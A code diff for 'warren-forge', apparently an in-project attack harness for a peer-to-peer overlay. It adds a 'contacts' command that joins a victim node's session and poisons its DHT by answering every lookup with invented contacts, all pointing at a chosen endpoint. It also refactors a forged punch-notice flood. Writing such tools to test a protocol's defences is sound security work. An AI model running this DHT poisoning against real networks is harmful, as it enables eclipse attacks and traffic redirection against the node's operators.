@@ -1,6 +1,7 @@
 import Glibc
 import WarrenCrypto
 import WarrenDaemon
+import WarrenDHT
 import WarrenLinux
 import WarrenNAT
 import WarrenPKI
@@ -14,6 +15,10 @@ import WarrenWire
 ///       handshakes with the victim as the member CONFIG names, then sends COUNT punch
 ///       notices for each pair, naming PEER_KEY seen at SEEN, with no record (the notice
 ///       alone would have to be believed)
+///   warren-forge contacts CONFIG VICTIM_KEY VICTIM_ENDPOINT TARGET_ENDPOINT SECONDS
+///       handshakes with the victim as the member CONFIG names, pings it so that it becomes
+///       one of the victim's DHT contacts, then for SECONDS answers every FIND_NODE and
+///       FIND_VALUE the victim sends with 20 contacts of invented keys, all at TARGET
 ///   warren-forge beacon CONFIG CERTIFICATE_FILE PORT TARGET_ENDPOINT...
 ///       sends each target, unicast, two LAN beacons naming PORT and carrying
 ///       CERTIFICATE_FILE's certificate: one in the unsigned layout beacons had before they
@@ -29,6 +34,9 @@ enum WarrenForge {
         case "notices" where arguments.count >= 8 && arguments.count % 2 == 0:
             let pairs = stride(from: 6, to: arguments.count, by: 2).map { (arguments[$0], arguments[$0 + 1]) }
             try notices(config: arguments[2], victimKey: arguments[3], victim: arguments[4], count: Int(arguments[5])!, pairs: pairs)
+        case "contacts" where arguments.count == 7:
+            try contacts(config: arguments[2], victimKey: arguments[3], victim: arguments[4], target: Endpoint(arguments[5])!,
+                         seconds: Int(arguments[6])!)
         case "beacon" where arguments.count >= 6:
             try beacon(config: arguments[2], certificateFile: arguments[3], port: UInt16(arguments[4])!,
                        targets: arguments[5...].map { Endpoint($0)! })
@@ -41,25 +49,43 @@ enum WarrenForge {
         Moment(instant: MonotonicClock.now(), unixNanoseconds: WallClock.nowUnixSeconds() * 1_000_000_000)
     }
 
-    static func notices(config path: String, victimKey: String, victim: String, count: Int, pairs: [(String, String)]) throws {
-        let config = try Config.load(path: path)
-        let identity = try NodeIdentity(config: config, atUnixTime: WallClock.nowUnixSeconds())
-        let victimKey = KeyText.parsePublicKey(victimKey)!, victim = Endpoint(victim)!
-        let manager = SessionManager(identity: SigningKey(seed: identity.signingKey.seed()), certificate: identity.certificate, authority: identity.authority,
-                                     peers: [PeerConfig(publicKey: victimKey, endpoint: victim)], blocklist: [], random: SystemRandom())
-        let socket = try UDPSocket(port: 0)
+    /// A session with the victim, as the member `config` names, over a socket of its own.
+    struct Session {
+        let manager: SessionManager
+        let socket: UDPSocket
+        let victimKey: Key32
+        let victim: Endpoint
         let batch = DatagramReceiveBatch(capacity: 8, datagramBytes: 2048)
+
+        init(config path: String, victimKey: String, victim: String) throws {
+            let config = try Config.load(path: path)
+            let identity = try NodeIdentity(config: config, atUnixTime: WallClock.nowUnixSeconds())
+            self.victimKey = KeyText.parsePublicKey(victimKey)!
+            self.victim = Endpoint(victim)!
+            manager = SessionManager(identity: SigningKey(seed: identity.signingKey.seed()), certificate: identity.certificate,
+                                     authority: identity.authority, peers: [PeerConfig(publicKey: self.victimKey, endpoint: self.victim)],
+                                     blocklist: [], random: SystemRandom())
+            socket = try UDPSocket(port: 0)
+            var actions: [SessionAction] = []
+            manager.start(now: now(), into: &actions)
+            perform(actions)
+            let deadline = MonotonicClock.now() + .seconds(5)
+            while !manager.isConnected(self.victimKey, now: MonotonicClock.now()) && MonotonicClock.now() < deadline {
+                receive { _ in }
+            }
+            guard manager.isConnected(self.victimKey, now: MonotonicClock.now()) else { fatalError("no session with the victim") }
+        }
+
         func perform(_ actions: [SessionAction]) {
             for case .send(let bytes, let to) in actions { _ = bytes.withUnsafeBytes { try? socket.send($0, to: to) } }
         }
-        var actions: [SessionAction] = []
-        manager.start(now: now(), into: &actions)
-        perform(actions)
-        let deadline = MonotonicClock.now() + .seconds(5)
-        while !manager.isConnected(victimKey, now: MonotonicClock.now()) && MonotonicClock.now() < deadline {
+
+        /// Handles what arrived (waiting 10 ms if nothing did): handshakes as a daemon would,
+        /// control messages from the victim's session to `control`.
+        func receive(_ control: ([UInt8]) -> Void) {
             guard let n = try? socket.receive(into: batch), n > 0 else {
                 usleep(10_000)
-                continue
+                return
             }
             for i in 0..<n {
                 guard let source = batch.endpoint(i) else { continue }
@@ -70,24 +96,71 @@ enum WarrenForge {
                     DataPath.inbound($0, from: source, snapshot: manager.snapshot(now: MonotonicClock.now()), now: MonotonicClock.now(),
                                      notices: &notices)
                 }
-                actions = []
+                var actions: [SessionAction] = []
                 if let keypair = notices.confirmed { manager.confirmed(keypair, now: now(), into: &actions) }
-                if case .handshake(let offset, let path) = verdict {
+                switch verdict {
+                case .handshake(let offset, let path):
                     _ = manager.handleHandshake(Array(datagram[offset...]), from: path, now: now(), into: &actions)
+                case .control(let offset, let count, _, _):
+                    control(Array(bytes[offset..<offset + count]))
+                default:
+                    break
                 }
                 perform(actions)
             }
         }
-        guard manager.isConnected(victimKey, now: MonotonicClock.now()) else { fatalError("no session with the victim") }
+
+        func send(control message: [UInt8]) {
+            var actions: [SessionAction] = []
+            manager.sendControl(message, to: victimKey, endpoint: victim, now: now(), into: &actions)
+            perform(actions)
+        }
+    }
+
+    static func notices(config path: String, victimKey: String, victim: String, count: Int, pairs: [(String, String)]) throws {
+        let session = try Session(config: path, victimKey: victimKey, victim: victim)
         for (peer, seen) in pairs {
             let notice = PunchMessage(kind: .notice, peer: KeyText.parsePublicKey(peer)!, seen: Endpoint(seen)!).encoded
-            for _ in 0..<count {
-                actions = []
-                manager.sendControl(notice, to: victimKey, endpoint: victim, now: now(), into: &actions)
-                perform(actions)
-            }
+            for _ in 0..<count { session.send(control: notice) }
             print("sent \(count) notices naming \(seen)")
         }
+    }
+
+    static func contacts(config path: String, victimKey: String, victim: String, target: Endpoint, seconds: Int) throws {
+        let session = try Session(config: path, victimKey: victimKey, victim: victim)
+        // Any request makes the sender one of the victim's contacts, asked in its lookups.
+        session.send(control: DHTMessage(requestID: 1, body: .ping).encoded)
+        var random = SystemRandom()
+        var answered = 0
+        let deadline = MonotonicClock.now() + .seconds(Int64(seconds))
+        var nextTick = MonotonicClock.now()
+        while MonotonicClock.now() < deadline {
+            session.receive { bytes in
+                guard let message = try? DHTMessage(parsing: bytes) else { return }
+                let reply: DHTMessage.Body
+                switch message.body {
+                case .findNode, .findValue:
+                    let invented = (0..<DHTMessage.maxContacts).map { _ in
+                        Contact(publicKey: SigningKey(random: &random).publicKey, endpoint: target)
+                    }
+                    reply = .nodes(invented)
+                    answered += 1
+                case .ping:
+                    reply = .pong
+                default:
+                    return
+                }
+                session.send(control: DHTMessage(requestID: message.requestID, body: reply).encoded)
+            }
+            // Keepalives and rekeys, so the session outlives the attack.
+            if MonotonicClock.now() >= nextTick {
+                var actions: [SessionAction] = []
+                session.manager.handleTimers(now: now(), into: &actions)
+                session.perform(actions)
+                nextTick = MonotonicClock.now() + SessionManager.tick
+            }
+        }
+        print("answered \(answered) DHT queries with \(answered * DHTMessage.maxContacts) invented contacts at \(target)")
     }
 
     static func beacon(config path: String, certificateFile: String, port: UInt16, targets: [Endpoint]) throws {
